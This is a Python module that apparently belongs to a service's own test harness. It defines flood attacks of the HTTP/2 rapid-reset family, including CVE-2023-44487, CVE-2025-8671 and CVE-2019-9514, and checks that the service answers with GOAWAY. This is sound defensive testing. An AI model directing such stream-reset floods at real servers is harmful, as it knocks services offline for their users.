"""Calls that are begun to be ended: by the attacker, or by the service because of what the attacker sends."""

from itertools import repeat
from typing import Iterator

from rtlk.wire import Flag

from ..arena import Arena
from ..attack import attack
from ..frames import INGEST, MISSING, SECOND, STATISTICS, WATCH, WHOLE, cancel, opening, streams
from ..protobuf import conversation, ingest_request


def _cancelled(path: str, message: bytes = b"", flags: int = WHOLE, time_left: int = 0) -> Iterator[bytes]:
    for stream in streams():
        yield opening(path, stream, message, flags, time_left) + cancel(stream)


@attack("rapid-reset", "goaway 6")
def rapid_reset(arena: Arena) -> None:
    """CVE-2023-44487: OPEN and CANCEL, of a call that would wait for ever."""
    arena.repeat(lambda peer: arena.flood(peer, _cancelled(WATCH, flags=WHOLE | Flag.RESPONSES)))


@attack("rapid-reset-running", "goaway 6")
def rapid_reset_running(arena: Arena) -> None:
    """The same with handlers that go on computing after CANCEL: a batch to de-identify."""
    text = "My name is Anna Smith and I was born on 1 May 1970 in Boston. " * 4
    batch = ingest_request(*(conversation(f"c{number}", text) for number in range(4)))
    arena.repeat(lambda peer: arena.flood(peer, _cancelled(INGEST, batch)), "gateway")


@attack("rapid-reset-late", "goaway 6")
def rapid_reset_late(arena: Arena) -> None:
    """The same with so little time left that CANCEL would be free later on."""
    frames = lambda: _cancelled(WATCH, flags=WHOLE | Flag.RESPONSES, time_left=SECOND // 20)
    arena.repeat(lambda peer: arena.flood(peer, frames()))


@attack("made-reset-unknown", "goaway 6", codes={12})
def made_reset_unknown(arena: Arena) -> None:
    """CVE-2025-8671: the service ends the calls, here of a method that is not served."""
    arena.repeat(lambda peer: arena.flood(peer, (opening(MISSING, stream) for stream in streams())))


@attack("made-reset-no-request", "goaway 6", codes={3})
def made_reset_no_request(arena: Arena) -> None:
    """Calls that end without the one request they must have."""
    frames = lambda: (opening(STATISTICS, stream, flags=Flag.END) for stream in streams())
    arena.repeat(lambda peer: arena.flood(peer, frames()))


@attack("made-reset-denied", "goaway 6", codes={7})
def made_reset_denied(arena: Arena) -> None:
    """A peer of our authority that may call nothing here."""
    arena.repeat(lambda peer: arena.flood(peer, (opening(INGEST, stream) for stream in streams())), "evaluator")


@attack("reset-of-ended", "goaway 6")
def reset_of_ended(arena: Arena) -> None:
    """CVE-2019-9514: CANCEL of a call that has ended, without end."""
    def assault(peer) -> None:
        peer.write(opening(MISSING, 1), 1, arena.until)
        arena.flood(peer, repeat(cancel(1)))
    arena.repeat(assault)
